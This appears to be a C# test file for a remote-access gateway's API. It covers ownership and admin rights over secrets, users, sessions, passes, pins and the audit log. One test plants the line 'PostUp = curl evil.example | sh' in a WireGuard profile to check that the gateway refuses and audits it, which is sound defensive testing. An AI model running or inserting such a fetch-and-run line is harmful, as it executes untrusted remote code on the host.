using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using RemoteChain.Gateway.Access;
using RemoteChain.Gateway.Api;
using RemoteChain.Gateway.Store;
using RemoteChain.Gateway.Tests.Access;

namespace RemoteChain.Gateway.Tests.Api;

/// <summary>Secrets, users, sessions, passes, pins and the audit log, each for whom it may be.</summary>
public sealed class AccessEndpointTests : IAsyncLifetime
{
    const string Document = "name: site\nlayers:\n  - kind: rdp\n    host: 10.0.0.5\n    credentials: jump\n";
    const string Hidden = "hunter2-hunter2";

    readonly TestNode _node = new();
    HttpClient _alice = null!;
    HttpClient _bob = null!;
    HttpClient _root = null!;

    public async Task InitializeAsync()
    {
        await _node.InitializeAsync();
        (_alice, _bob, _root) = (_node.Add("alice"), _node.Add("bob"), _node.Add("root", Role.Admin));
        await _alice.PutAsJsonAsync("/api/v1/secrets/jump", new SecretEndpoints.SecretValue("u01", "ACME", Hidden)).OkAsync();
        await _alice.PutYamlAsync("/api/v1/chains/site", Document).OkAsync();
    }

    public Task DisposeAsync() => _node.DisposeAsync();

    [Fact]
    public async Task Secrets_AreListedWithoutValues_ToTheirOwnerAndAdmins()
    {
        var listed = await _alice.GetStringAsync("/api/v1/secrets");
        Assert.Contains("ACME\\\\u01", listed);
        Assert.Contains("site", listed);
        Assert.Contains("jump", await _root.GetStringAsync("/api/v1/secrets"));
        Assert.Equal("[]", await _bob.GetStringAsync("/api/v1/secrets"));
        foreach (var path in new[] { "/secrets", "/chains/site", "/audit?limit=1000", "/chains" })
            Assert.DoesNotContain(Hidden, await _root.GetStringAsync($"/api/v1{path}"));
        await (await _root.GetAsync("/api/v1/secrets/jump")).ProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Secret_OfSomebodyElse_CanNeitherBeSetNorRemoved()
    {
        await (await _bob.PutAsJsonAsync("/api/v1/secrets/jump", new SecretEndpoints.SecretValue("x", null, "y")))
            .ProblemAsync(HttpStatusCode.Conflict);
        await (await _bob.DeleteAsync("/api/v1/secrets/jump?force=true")).ProblemAsync(HttpStatusCode.NotFound);
        Assert.True(_node.Get<SecretVault>().TryOpen("site", "jump", out var secret, out _));
        Assert.Equal(Hidden, secret.Password);
    }

    [Fact]
    public async Task Secret_InUse_IsRemovedOnlyByForce()
    {
        Assert.Contains("used by site", await (await _alice.DeleteAsync("/api/v1/secrets/jump")).ProblemAsync(HttpStatusCode.Conflict));
        await _alice.DeleteAsync("/api/v1/secrets/jump?force=true").OkAsync();
        Assert.False(_node.Get<SecretVault>().TryOpen("site", "jump", out _, out _));
    }

    [Theory]
    [InlineData("Bad Name", "u", "p")]
    [InlineData("ok", "u", "")]
    [InlineData("ok", "u\0", "p")]
    public async Task Secret_BadValue_IsRefused(string name, string user, string password) =>
        await (await _alice.PutAsJsonAsync($"/api/v1/secrets/{Uri.EscapeDataString(name)}",
            new SecretEndpoints.SecretValue(user, "", password))).ProblemAsync(HttpStatusCode.UnprocessableEntity);

    const string Profile = "[Interface]\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 10.0.0.2/24\n[Peer]\n"
        + "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nEndpoint = vpn.example:51820\n";

    [Fact]
    public async Task Profile_WithAScript_IsRefusedByNameAndAudited()
    {
        var script = Profile.Replace("[Peer]", "PostUp = curl evil.example | sh\n[Peer]", StringComparison.Ordinal);

        var problem = await (await _alice.PutAsJsonAsync("/api/v1/secrets/site-vpn", new SecretEndpoints.SecretValue(null, null, null, "wireguard", script)))
            .ProblemAsync(HttpStatusCode.UnprocessableEntity);

        Assert.Contains("cannot be used", problem);
        var audited = Assert.Single(_node.Get<AuditLog>().Read(new AuditQuery(Action: "profile-refused")));
        Assert.Equal(("alice", "site-vpn", "wireguard: line 4: `PostUp` runs a program, which no profile may do here; remove the line"),
            (audited.Actor, audited.Subject, audited.Detail));
        Assert.Null(_node.Get<SecretStore>().Find("site-vpn"));
    }

    [Theory]
    [InlineData("openvpn", "client\ndev tun\nremote a\nauth-user-pass\n<ca>\nx\n</ca>\n", "The profile asks for a user and a password")]
    [InlineData("ssh-key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nx\n-----END ENCRYPTED PRIVATE KEY-----\n", "The key is locked")]
    public async Task File_WithoutWhatBelongsToIt_IsRefused(string kind, string text, string expected)
    {
        Assert.Contains(expected, await (await _alice.PutAsJsonAsync("/api/v1/secrets/x", new SecretEndpoints.SecretValue(null, null, null, kind, text)))
            .ProblemAsync(HttpStatusCode.UnprocessableEntity));
        await _alice.PutAsJsonAsync("/api/v1/secrets/x", new SecretEndpoints.SecretValue("u", null, "p", kind, text)).OkAsync();
    }

    [Theory]
    [InlineData("  - kind: rdp\n    host: h\n    credentials: tunnel\n", "the secret 'tunnel' is of kind wireguard; what fits here is login")]
    [InlineData("  - kind: vpn\n    profile: jump\n  - kind: rdp\n    host: h\n",
        "the secret 'jump' is of kind login; what fits here is wireguard or openvpn")]
    [InlineData("  - kind: vpn\n    profile: tunnel\n    type: openvpn\n  - kind: rdp\n    host: h\n",
        "the secret 'tunnel' is of kind wireguard; what fits here is openvpn")]
    [InlineData("  - kind: proxy\n    host: p\n  - kind: vpn\n    profile: tunnel\n  - kind: rdp\n    host: h\n",
        "the secret 'tunnel' is a WireGuard profile, which sends packets, but layer 1 (proxy) before it carries only connections")]
    [InlineData("  - kind: ssh\n    host: j\n    credentials: tunnel\n  - kind: rdp\n    host: h\n",
        "the secret 'tunnel' is of kind wireguard; what fits here is login or ssh-key")]
    [InlineData("  - kind: vpn\n    profile: nobody\n  - kind: rdp\n    host: h\n", "make it first with `remotechain secret import nobody FILE`")]
    public async Task Chain_WithASecretThatDoesNotFit_IsRefused(string layers, string expected)
    {
        await _alice.PutAsJsonAsync("/api/v1/secrets/tunnel", new SecretEndpoints.SecretValue(null, null, null, "wireguard", Profile)).OkAsync();

        using var answer = await _alice.PutYamlAsync("/api/v1/chains/other", "name: other\nlayers:\n" + layers);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, answer.StatusCode);
        Assert.Contains(expected, System.Text.RegularExpressions.Regex.Unescape(await answer.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task Users_AddedWithoutPassword_GetOneThatWorks()
    {
        var added = (await (await _root.PostAsJsonAsync("/api/v1/users", new UserEndpoints.NewUser("carol", null, null)).OkAsync())
            .Content.ReadFromJsonAsync<UserEndpoints.AddedUser>())!;
        await _node.Stranger().PostAsJsonAsync("/api/v1/sign-in", new SignInEndpoints.Credentials("carol", added.Password!)).OkAsync();

        await (await _root.PostAsJsonAsync("/api/v1/users", new UserEndpoints.NewUser("CAROL", null, null)))
            .ProblemAsync(HttpStatusCode.Conflict);
        await (await _root.PostAsJsonAsync("/api/v1/users", new UserEndpoints.NewUser("dave", null, "short")))
            .ProblemAsync(HttpStatusCode.UnprocessableEntity);
        await (await _root.PostAsJsonAsync("/api/v1/users", new UserEndpoints.NewUser("rc-dave", null, null)))
            .ProblemAsync(HttpStatusCode.UnprocessableEntity);
        await (await _root.PostAsJsonAsync("/api/v1/users", new UserEndpoints.NewUser("dave", "king", null)))
            .ProblemAsync(HttpStatusCode.UnprocessableEntity);
    }

    [Fact]
    public async Task Password_OwnNeedsThePresentOne_OthersNeedAnAdmin()
    {
        await (await _bob.PutAsJsonAsync("/api/v1/users/alice/password",
            new UserEndpoints.NewPassword("a new password", TestAccess.Password))).ProblemAsync(HttpStatusCode.Forbidden);
        await (await _alice.PutAsJsonAsync("/api/v1/users/alice/password", new UserEndpoints.NewPassword("a new password", "wrong")))
            .ProblemAsync(HttpStatusCode.Unauthorized);
        await _alice.PutAsJsonAsync("/api/v1/users/alice/password", new UserEndpoints.NewPassword("a new password", TestAccess.Password))
            .OkAsync();
        await (await _alice.GetAsync("/api/v1/me")).ProblemAsync(HttpStatusCode.Unauthorized);
        await _root.PutAsJsonAsync("/api/v1/users/alice/password", new UserEndpoints.NewPassword("another password", null)).OkAsync();
    }

    [Fact]
    public async Task Sessions_AreSeenAndKilledByTheirOwnerAndAdmins()
    {
        _node.Sessions.Add("s1", "alice");
        _node.Sessions.Add("s2", "alice");

        Assert.Equal("[]", await _bob.GetStringAsync("/api/v1/sessions"));
        await (await _bob.GetAsync("/api/v1/sessions/s1")).ProblemAsync(HttpStatusCode.NotFound);
        await (await _bob.DeleteAsync("/api/v1/sessions/s1")).ProblemAsync(HttpStatusCode.NotFound);
        await (await _bob.DeleteAsync("/api/v1/sessions/s1/fronts/1")).ProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal(2, (await (await _alice.GetAsync("/api/v1/sessions").OkAsync()).JsonAsync()).AsArray().Count);
        await (await _alice.DeleteAsync("/api/v1/sessions/s1/fronts/7")).ProblemAsync(HttpStatusCode.NotFound);
        await _alice.DeleteAsync("/api/v1/sessions/s1/fronts/1").OkAsync();
        await _alice.DeleteAsync("/api/v1/sessions/s1").OkAsync();
        await _root.DeleteAsync("/api/v1/sessions/s2").OkAsync();
        Assert.Empty(_node.Sessions.List());
    }

    [Fact]
    public async Task Session_OfAChainThatOneMayUse_IsOpenedBeforeAnybodyLooks()
    {
        await (await Open(_bob, new("site", null, null, null))).ProblemAsync(HttpStatusCode.NotFound);
        await (await Open(_bob, new("site", null, null, "alice"))).ProblemAsync(HttpStatusCode.Forbidden);
        await (await Open(_root, new("site", null, null, "nobody"))).ProblemAsync(HttpStatusCode.NotFound);
        await (await Open(_alice, new("site", 100, null, null))).ProblemAsync(HttpStatusCode.UnprocessableEntity);

        var opened = await (await Open(_root, new("site", 1024, 768, "alice")).OkAsync()).JsonAsync();
        Assert.Equal(("alice", "site", 1024, 768),
            ((string)opened["owner"]!, (string)opened["chain"]!, (int)opened["width"]!, (int)opened["height"]!));

        for (var i = _node.Sessions.List().Count; i < TestSessions.SessionsMax; i++) await Open(_alice, new("site", null, null, null)).OkAsync();
        await (await Open(_alice, new("site", null, null, null))).ProblemAsync(HttpStatusCode.ServiceUnavailable);

        static Task<HttpResponseMessage> Open(HttpClient by, SessionEndpoints.NewSession wanted) => by.PostAsJsonAsync("/api/v1/sessions", wanted);
    }

    [Fact]
    public async Task Pass_ForAChainThatOneMayUse_OpensItOnce()
    {
        await (await _bob.PostAsJsonAsync("/api/v1/passes", new PassEndpoints.NewPass("site", null, null, null)))
            .ProblemAsync(HttpStatusCode.NotFound);
        await (await _bob.PostAsJsonAsync("/api/v1/passes", new PassEndpoints.NewPass("site", null, "alice", null)))
            .ProblemAsync(HttpStatusCode.Forbidden);
        var pass = (await (await _root.PostAsJsonAsync("/api/v1/passes", new PassEndpoints.NewPass("site", true, "alice", "gw.example"))
            .OkAsync()).Content.ReadFromJsonAsync<PassEndpoints.Pass>())!;

        Assert.Contains("full address:s:gw.example:3390\r\n", pass.Rdp);
        Assert.Contains($"username:s:{pass.Id}\r\n", pass.Rdp);
        var redeemed = _node.Get<ConnectionPasses>().Redeem(pass.Id, pass.Secret, IPAddress.Loopback).Pass!;
        Assert.Equal(("alice", "site", true), (redeemed.Account.Name, redeemed.ChainName, redeemed.ViewOnly));
        Assert.DoesNotContain(pass.Secret, await _root.GetStringAsync("/api/v1/audit"));
    }

    [Fact]
    public async Task Pass_AsAFile_IsAnRdpFile()
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/passes") { Content = JsonContent.Create(new { chain = "site" }) };
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue(RdpFile.MediaType));
        var response = await _alice.SendAsync(request).OkAsync();

        Assert.Equal("site.rdp", response.Content.Headers.ContentDisposition!.FileName);
        Assert.StartsWith("full address:s:127.0.0.1:3390\r\n", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task Pins_AreForgottenByWhoMayChangeTheChain()
    {
        _node.Get<PinStore>().PinFirst("site", "rdp 10.0.0.5:3389", "aa", "CN=host");
        await _alice.PutAsync("/api/v1/chains/site/grants/bob", null).OkAsync();

        Assert.Contains("CN=host", await _bob.GetStringAsync("/api/v1/pins"));
        await (await _bob.DeleteAsync("/api/v1/pins/site")).ProblemAsync(HttpStatusCode.NotFound);
        await (await _alice.DeleteAsync("/api/v1/pins/site?layer=rdp%20other")).ProblemAsync(HttpStatusCode.NotFound);
        await _alice.DeleteAsync("/api/v1/pins/site?layer=rdp%2010.0.0.5%3A3389").OkAsync();
        Assert.Equal("[]", await _alice.GetStringAsync("/api/v1/pins"));
    }

    [Fact]
    public async Task Audit_TellsWhoDidWhatFromWhere()
    {
        var records = (await (await _root.GetAsync("/api/v1/audit?action=chain-saved").OkAsync()).JsonAsync()).AsArray();
        var saved = Assert.Single(records)!;

        Assert.Equal(("alice", "site", "127.0.0.1"), ((string)saved["actor"]!, (string)saved["subject"]!, (string)saved["address"]!));
    }
}
